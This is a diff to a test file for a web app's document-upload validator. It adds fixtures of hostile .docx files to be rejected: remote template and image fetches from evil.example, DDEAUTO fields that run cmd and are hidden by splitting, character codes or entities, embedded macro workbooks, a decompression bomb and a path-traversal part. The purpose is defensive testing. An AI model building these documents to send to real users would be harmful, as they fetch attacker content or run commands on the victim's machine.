@@ -45,6 +45,84 @@ beforeAll(async () => {
 });
 afterAll(() => app.close());
 
+const officeTypes = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
+const withRelationship = (type: string, target: string, mode = 'TargetMode="External"') =>
+  aDocx({
+    'word/_rels/document.xml.rels': relationships(
+      `<Relationship Id="r1" Type="${type}" Target="${target}" ${mode}/>`,
+    ),
+  });
+const withText = (text: string) =>
+  aDocx({
+    'word/document.xml': `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>${text}</w:body></w:document>`,
+  });
+const run = (text: string) => `<w:r><w:instrText>${text}</w:instrText></w:r>`;
+const mark = (kind: string) => `<w:r><w:fldChar w:fldCharType="${kind}"/></w:r>`;
+const field = (...runs: string[]) => `${mark('begin')}${runs.join('')}${mark('end')}`;
+
+/** Documents that fetch or run something, each spelled so that a search for the usual words would not find it. */
+const hostileDocuments: [string, () => Buffer][] = [
+  [
+    'a document whose template is fetched by a mode in entities',
+    () =>
+      withRelationship(
+        `${officeTypes}/attachedTemplate`,
+        'https://evil.example/t.dotm',
+        'TargetMode="&#x45;xternal"',
+      ),
+  ],
+  [
+    'a document whose fetched template is called a link',
+    () => withRelationship('https://evil.example/hyperlink', 'https://evil.example/t.dotm'),
+  ],
+  [
+    'a document that fetches a picture',
+    () => withRelationship(`${officeTypes}/image`, 'https://evil.example/p.png'),
+  ],
+  [
+    'a document with a link to a file of the reader',
+    () => withRelationship(`${officeTypes}/hyperlink`, 'file://evil.example/share'),
+  ],
+  [
+    'a document with a part of another host',
+    () => withRelationship(`${officeTypes}/image`, '//evil.example/p.png', ''),
+  ],
+  [
+    'a document whose relationships are in capitals',
+    () =>
+      aDocx({
+        'word/_rels/settings.xml.RELS': relationships(
+          `<Relationship Id="r1" Type="${officeTypes}/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>`,
+        ),
+      }),
+  ],
+  ['a document with a workbook', () => aDocx({ 'word/embeddings/book.xlsm': 'x' })],
+  ['a document with a page of the web', () => aDocx({ 'word/page.mht': 'x' })],
+  ['a document that takes in another one', () => withText('<w:altChunk r:id="r1" xmlns:r="r"/>')],
+  ['a document with a field that runs a program', () => withText(field(run('DDEAUTO c:\\\\cmd')))],
+  [
+    'a document with such a field in pieces',
+    () => withText(field(run(' D'), run('DE'), run('AUTO c:\\\\cmd'))),
+  ],
+  [
+    'a document with such a field in numbers',
+    () => withText(field(field(run('QUOTE 68 68 69 65 85 84 79')))),
+  ],
+  [
+    'a document with such a field in one element',
+    () => withText('<w:fldSimple w:instr=" &#x44;DE cmd"/>'),
+  ],
+  ['a document that unpacks to 64 MB', () => withText(' '.repeat(64 * 1024 * 1024))],
+  [
+    'a document with words of its own',
+    () =>
+      aDocx({
+        'word/document.xml': '<!DOCTYPE d [<!ENTITY a "aaaaaaaaaa">]><w:document>&a;</w:document>',
+      }),
+  ],
+  ['a document of broken XML', () => aDocx({ 'word/document.xml': '<w:document>' })],
+];
+
 describe('a file of a post', () => {
   it('is taken by what its bytes are', async () => {
     for (const [bytes, name, contentType] of [
@@ -61,6 +139,13 @@ describe('a file of a post', () => {
           ),
         }),
         'links.docx',
+        'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
+      ],
+      [
+        withText(
+          `${field(run(' TOC \\\\o "1-3" '), mark('separate'))}${field(run(' PAG'), run('EREF _a '))}<w:fldSimple w:instr=" HYPERLINK &quot;https://college.example&quot; "/>${field(run(' ADDIN ZOTERO_ITEM '))}`,
+        ),
+        'fields.docx',
         'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
       ],
       [aDoc(), 'old.doc', 'application/msword'],
@@ -97,6 +182,11 @@ describe('a file of a post', () => {
         }),
       'a.docx',
     ],
+    ...hostileDocuments.map(([what, make]): [string, () => Buffer, string] => [
+      what,
+      make,
+      'a.docx',
+    ]),
     ['a document with a part outside of it', () => aDocx({ '../../evil.xml': 'x' }), 'a.docx'],
     ['an archive', () => aZip({ 'a.txt': 'x' }), 'a.docx'],
     [
